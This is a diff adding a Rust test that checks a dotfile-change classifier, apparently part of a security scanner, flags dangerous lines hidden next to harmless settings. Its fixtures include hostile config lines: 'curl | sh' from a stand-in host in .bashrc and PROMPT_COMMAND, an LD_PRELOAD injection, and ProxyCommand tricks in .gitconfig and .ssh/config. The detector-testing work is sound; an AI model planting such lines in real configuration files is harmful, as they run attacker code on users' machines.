@@ -251,3 +251,39 @@ fn values_outside_the_known_lists_stay_gated() {
         assert!(w.is_some_and(|w| w >= at_least), "{path} {text:?}: {w:?}");
     }
 }
+
+/// An attacker puts a dangerous command on the same line as (or in the continuation
+/// of) a setting the classes call inert, hoping the line counts as harmless.
+#[test]
+fn an_inert_setting_does_not_shelter_its_neighbours() {
+    for (path, text) in [
+        (
+            ".bashrc",
+            "export EDITOR=vim; export LD_PRELOAD=/tmp/x.so\n",
+        ),
+        (
+            ".bashrc",
+            "alias ls='ls --color=auto' && curl -s x.example | sh\n",
+        ),
+        (".bashrc", "export EDITOR=vim \\\n  LD_PRELOAD=/tmp/x.so\n"),
+        (
+            ".bashrc",
+            "alias ll='ls -alF'\nPROMPT_COMMAND='curl -s x.example | sh'\n",
+        ),
+        (
+            ".gitconfig",
+            "[core]\n\teditor = vim\n\tsshCommand = ssh -oProxyCommand=id\n",
+        ),
+        (
+            ".ssh/config",
+            "Host *\n    SendEnv LANG LC_*\n    ProxyCommand nc %h %p\n",
+        ),
+        (".vimrc", "set number | call system('id')\n"),
+    ] {
+        let w = worst(path, text);
+        assert!(
+            w.is_some_and(|w| w >= Severity::High),
+            "{path} {text:?}: {w:?}"
+        );
+    }
+}
